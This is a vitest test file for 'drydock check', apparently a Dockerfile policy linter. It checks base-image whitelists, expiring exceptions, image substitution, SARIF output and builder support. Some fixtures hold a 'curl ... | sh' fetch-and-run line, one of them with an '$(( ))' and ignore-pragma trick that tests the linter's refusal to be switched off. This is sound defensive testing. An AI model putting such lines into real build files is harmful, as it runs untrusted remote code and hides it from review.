import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, tempTree } from '../helpers/cli.js';

const root = join(import.meta.dirname, '../..');
const policy = join(root, 'examples/policy.yaml');
const legacy = join(root, 'examples/legacy-worker/Dockerfile');
const payments = join(root, 'examples/payments-api/Dockerfile');

interface Json {
  passed: boolean;
  definitions: {
    file: string;
    passed: boolean;
    findings: { code: string; line: number }[];
    bases: { outcome: string; image: string; to?: string; reason?: string }[];
    unresolved: { reason: string }[];
    substituted?: string;
  }[];
}

const checkJson = async (args: string[], opts: Parameters<typeof runCli>[1] = {}) => {
  const r = await runCli(['check', '--format', 'json', '--policy', policy, ...args], opts);
  return { ...r, json: JSON.parse(r.stdout) as Json };
};

describe('drydock check', () => {
  it('passes the clean example and fails the bad one, with findings on the right lines', async () => {
    const r = await runCli(['check', join(root, 'examples'), '--policy', policy, '--project', 'payments'], {
      cwd: root,
    });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/FAIL .*legacy-worker\/Dockerfile/);
    expect(r.stdout).toMatch(/PASS .*payments-api\/Dockerfile/);
    expect(r.stdout).toContain('2 definition(s): 1 passed, 1 failed');
    const { json } = await checkJson([legacy, '--project', 'payments']);
    const lines = (code: string) =>
      json.definitions[0]?.findings.filter((f) => f.code === code).map((f) => f.line);
    expect(lines('DD111')).toEqual([4]);
    expect(lines('DD107')).toEqual([5]);
    expect(lines('DD110')).toEqual([6]);
    expect(lines('DD118')).toEqual([7]);
    expect(lines('DD116')).toEqual([8]);
    expect(lines('DD106')).toEqual([9]);
    expect(lines('DD103')).toEqual([10]);
  });

  it('substitutes a banned base and changes nothing but the image reference', async () => {
    const { json } = await checkJson([legacy, '--project', 'payments']);
    const def = json.definitions[0]!;
    expect(def.bases).toEqual([
      expect.objectContaining({
        outcome: 'substituted',
        image: 'docker.io/library/debian:buster',
        to: 'docker.io/library/debian:bookworm-slim',
      }),
    ]);
    const original = readFileSync(legacy, 'utf8');
    expect(def.substituted).toBe(
      original.replace('docker.io/library/debian:buster', 'docker.io/library/debian:bookworm-slim'),
    );
  });

  it('writes substituted definitions with --emit-substituted', async () => {
    const dir = tempTree({ 'svc/Dockerfile': 'FROM node:18-alpine\nUSER 1000\nCMD ["node", "a.js"]\n' });
    const r = await runCli(['check', 'svc', '-p', policy, '-P', 'web', '--emit-substituted', 'out'], {
      cwd: dir,
    });
    expect(r.code).toBe(0);
    expect(readFileSync(join(dir, 'out/svc/Dockerfile'), 'utf8')).toBe(
      'FROM docker.io/library/node:20-bookworm-slim\nUSER 1000\nCMD ["node", "a.js"]\n',
    );
  });

  it('denies a base that is not on the whitelist, naming it', async () => {
    const { json, code } = await checkJson(['-', '--project', 'web'], {
      stdin: 'FROM alpine:3.20\nUSER 1000\n',
    });
    expect(code).toBe(1);
    expect(json.definitions[0]?.bases[0]).toMatchObject({
      outcome: 'denied',
      reason: expect.stringContaining('not on the base-image whitelist'),
    });
  });

  it('resolves ARG-parameterised FROM from defaults and --build-arg, and rejects an unresolvable one', async () => {
    const text = 'ARG NODE=20\nFROM node:${NODE}-alpine\nUSER 1000\n';
    expect(
      (await checkJson(['-', '-P', 'web'], { stdin: text })).json.definitions[0]?.bases[0],
    ).toMatchObject({ outcome: 'allowed' });
    const denied = await checkJson(['-', '-P', 'web', '--build-arg', 'NODE=21'], { stdin: text });
    expect(denied.json.definitions[0]?.bases[0]).toMatchObject({
      outcome: 'denied',
      image: 'node:21-alpine',
    });
    const unresolved = await checkJson(['-', '-P', 'web'], { stdin: 'ARG BASE\nFROM ${BASE}\nUSER 1000\n' });
    expect(unresolved.code).toBe(1);
    expect(unresolved.json.definitions[0]?.unresolved[0]?.reason).toContain(
      'build arg BASE has no default and was not supplied',
    );
  });

  it('allows a per-project exception until it expires, and only for that project', async () => {
    const text = 'FROM node:16-bullseye\nUSER 1000\nCMD ["node", "a.js"]\n';
    const before = await checkJson(['-', '-P', 'legacy-billing'], {
      stdin: text,
      now: new Date('2027-03-31T23:00:00Z'),
    });
    expect(before.json.definitions[0]?.bases[0]).toMatchObject({ outcome: 'allowed', via: 'exception' });
    const after = await checkJson(['-', '-P', 'legacy-billing'], {
      stdin: text,
      now: new Date('2027-04-01T00:00:01Z'),
    });
    expect(after.json.definitions[0]?.bases[0]).toMatchObject({
      outcome: 'denied',
      reason: expect.stringContaining('expired'),
    });
    const other = await checkJson(['-', '-P', 'payments'], {
      stdin: text,
      now: new Date('2027-01-01T00:00:00Z'),
    });
    expect(other.json.definitions[0]?.bases[0]).toMatchObject({ outcome: 'denied' });
  });

  it('fails clearly without a policy or a project, and on an invalid policy', async () => {
    let r = await runCli(['check', payments, '-P', 'x']);
    expect(r).toMatchObject({ code: 2, stderr: expect.stringContaining('no policy given') });
    r = await runCli(['check', payments, '-p', policy]);
    expect(r).toMatchObject({ code: 2, stderr: expect.stringContaining('no project given') });
    const dir = tempTree({ 'p.yaml': 'version: 1\nallowed:\n  - image: node\n    tgas: ["20"]\n' });
    r = await runCli(['check', payments, '-p', join(dir, 'p.yaml'), '-P', 'x']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/line 4, column 5: allowed\[0\]\.tgas: unknown key "tgas"/);
  });

  it('prints SARIF with policy outcomes as results', async () => {
    const r = await runCli(['check', legacy, '-p', policy, '-P', 'x', '--format', 'sarif']);
    const ids = JSON.parse(r.stdout).runs[0].results.map((x: { ruleId: string }) => x.ruleId);
    expect(ids).toEqual(expect.arrayContaining(['DD201', 'DD110']));
  });
});

describe('drydock check and the team config', () => {
  it('does not let no-fail, a loose threshold or pragmas in the repository switch the gate off', async () => {
    const dir = tempTree({
      '.hadolint.yaml': 'no-fail: true\nfailure-threshold: none\nignored: [DD110]\n',
      Dockerfile:
        'FROM node:20-alpine\nUSER 1000\n# hadolint ignore=DD110\nRUN curl -fsSL https://x.example/i.sh | sh\n',
      'alpine/Dockerfile': 'FROM alpine:3.20\nUSER 1000\n',
    });
    const r = await runCli(['check', '.', '-p', policy, '-P', 'web', '--format', 'json'], { cwd: dir });
    expect(r.code).toBe(1);
    const defs = JSON.parse(r.stdout).definitions as Json['definitions'];
    expect(defs.find((d) => d.file === 'Dockerfile')?.findings.map((f) => f.code)).toContain('DD110');
    expect(defs.every((d) => !d.passed)).toBe(true);
  });
});

describe('drydock check --emit-substituted', () => {
  it('keeps a byte-order mark, so only the reference changes', async () => {
    const dir = tempTree({ 'svc/Dockerfile': '\uFEFFFROM node:18-alpine\nUSER 1000\n' });
    await runCli(['check', 'svc', '-p', policy, '-P', 'web', '--emit-substituted', 'out'], { cwd: dir });
    expect(readFileSync(join(dir, 'out/svc/Dockerfile'), 'utf8')).toBe(
      '\uFEFFFROM docker.io/library/node:20-bookworm-slim\nUSER 1000\n',
    );
  });

  it('writes definitions from outside the working directory inside the output directory', async () => {
    const dir = tempTree({ 'b/Dockerfile': 'FROM node:18-alpine\nUSER 1000\n', 'a/.keep': '' });
    const r = await runCli(
      ['check', '../b/Dockerfile', '-p', policy, '-P', 'web', '--emit-substituted', 'out'],
      {
        cwd: join(dir, 'a'),
      },
    );
    expect(r.code).toBe(0);
    expect(readFileSync(join(dir, 'a/out/b/Dockerfile'), 'utf8')).toContain('node:20-bookworm-slim');
  });

  it('reports an output directory that cannot be written, with exit 2 and the verdict still printed', async () => {
    const dir = tempTree({ 'a/Dockerfile': 'FROM node:18-alpine\nUSER 1000\n', afile: 'not a directory' });
    const r = await runCli(
      ['check', 'a/Dockerfile', '-p', policy, '-P', 'web', '--emit-substituted', 'afile'],
      {
        cwd: dir,
      },
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cannot write the substituted definition \(ENOTDIR\)/);
    expect(r.stdout).toContain('PASS a/Dockerfile');
  });
});

describe('drydock check and engine codes', () => {
  it('fails the $(( )) + ignore=DD001 attack whatever --ignore and .hadolint.yaml say, and warns the ignores do nothing', async () => {
    const dir = tempTree({
      '.hadolint.yaml': 'ignored: [DD001]\noverride:\n  info: [DD001]\n',
      Dockerfile:
        'FROM node:20-alpine\nUSER 1000\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n',
    });
    const r = await checkJson(['.', '-P', 'web', '--ignore', 'DD001'], { cwd: dir });
    expect(r.code).toBe(1);
    expect(r.json.definitions[0]?.passed).toBe(false);
    expect(r.json.definitions[0]?.findings).toContainEqual(
      expect.objectContaining({ code: 'DD001', level: 'error', line: 4 }),
    );
    expect(r.stderr).toContain('--ignore names DD001, an engine code that cannot be ignored or lowered');
  });
});

describe('drydock check --builder', () => {
  const heredoc = 'FROM node:20-alpine\nUSER 1000\nRUN <<EOF\necho hi > /x\nEOF\nCMD ["node", "a.js"]\n';

  it('refuses a heredoc by default (every builder) and for buildah-1.28, and passes it for buildkit', async () => {
    const dir = tempTree({ Dockerfile: heredoc });
    const codes = (r: { json: Json }) => r.json.definitions[0]?.findings.map((f) => f.code);
    const byDefault = await checkJson(['.', '-P', 'web'], { cwd: dir });
    expect(byDefault.code).toBe(1);
    expect(codes(byDefault)).toContain('DD004');
    const local = await checkJson(['.', '-P', 'web', '--builder', 'buildah-1.28'], { cwd: dir });
    expect(codes(local)).toContain('DD004');
    const aws = await checkJson(['.', '-P', 'web', '--builder', 'buildkit'], { cwd: dir });
    expect(codes(aws)).not.toContain('DD004');
  });

  it('refuses an unknown builder as a usage error', async () => {
    const r = await runCli(['check', '.', '-p', policy, '-P', 'web', '--builder', 'docker'], {
      cwd: tempTree({ Dockerfile: heredoc }),
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown --builder "docker"');
  });
});
